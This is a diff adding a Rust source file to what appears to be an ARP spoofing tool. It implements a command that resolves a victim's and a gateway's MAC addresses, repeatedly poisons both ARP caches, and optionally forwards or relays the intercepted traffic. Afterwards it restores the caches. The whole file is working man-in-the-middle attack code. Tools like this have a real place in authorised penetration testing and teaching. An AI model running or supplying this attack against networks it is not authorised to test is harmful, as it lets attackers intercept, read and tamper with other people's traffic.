@@ -0,0 +1,98 @@
+use std::net::Ipv4Addr;
+use std::time::Duration;
+
+use arprender::arp::{MitmPair, Peer};
+use arprender::arp;
+use arprender::scheduler::Schedule;
+
+use super::forwarding::{prepare_forwarding, RelayThread};
+use super::schedule::print_report;
+use super::CommandResult;
+
+pub fn mitm(
+    interface: String,
+    victim: Ipv4Addr,
+    gateway: Option<Ipv4Addr>,
+    period: u16,
+    timeout: u16,
+    forward: bool,
+    relay: bool,
+) -> CommandResult {
+    let interface = arp::nic::get_interface_by_name(&interface)?;
+    let schedule = Schedule {
+        interval: Duration::from_secs(period.into()),
+        ..Default::default()
+    };
+    let timeout = Duration::from_secs(timeout.into());
+
+    let gateway = match gateway {
+        Some(gateway) => gateway,
+        None => match interface.default_gateway()? {
+            Some(gateway) => {
+                println!("Detected default gateway {} on {}.", gateway, interface.name());
+                gateway
+            }
+            None => {
+                return Err(format!(
+                    "Could not detect the default gateway of {}. Please specify it with --gateway.",
+                    interface.name()
+                )
+                .into())
+            }
+        },
+    };
+
+    if victim == gateway {
+        return Err("The victim and the gateway must be different hosts.".into());
+    }
+
+    let mut session = arp::ArpSession::new(&interface)?;
+
+    // Stop attacking, rather than exiting, on Ctrl-C or SIGTERM so that the poisoned caches can be restored
+    let cancel = session.cancel_handle();
+    let handler_cancel = cancel.clone();
+    ctrlc::set_handler(move || handler_cancel.cancel())?;
+
+    // The forged replies are sent directly to each peer, so their real MAC addresses are needed
+    let mut resolve_peer = |ip: Ipv4Addr| match session.resolve(ip, timeout)? {
+        Some(mac) => Ok::<_, Box<dyn std::error::Error>>(Peer { ip, mac }),
+        None => Err(format!("Failed to resolve {}!", ip).into()),
+    };
+
+    let pair = MitmPair {
+        victim: resolve_peer(victim)?,
+        gateway: resolve_peer(gateway)?,
+    };
+
+    for (host, spoofed) in pair.directions() {
+        println!(
+            "Poisoning {}: its traffic for {} will be sent to us.",
+            host, spoofed.ip
+        );
+    }
+
+    let mut forwarding = prepare_forwarding(interface.name(), forward, relay)?;
+
+    // Traffic from the victim to the rest of the world is addressed to the gateway's MAC address, but not its IP
+    let relay = if relay {
+        println!("Relaying intercepted traffic between {} and {}.", pair.victim.ip, pair.gateway.ip);
+        Some(RelayThread::start(&interface, &[pair.victim], Some(pair.gateway))?)
+    } else {
+        None
+    };
+
+    println!("Launching ARP man-in-the-middle attack...");
+    let report = schedule.run(&cancel, |_| session.poison_pair(&pair));
+
+    println!("Restoring ARP caches...");
+    session.restore_pair(&pair)?;
+    forwarding.restore()?;
+
+    if let Some(relay) = relay {
+        relay.stop()?;
+    }
+
+    print_report(&report?);
+
+    Ok(())
+}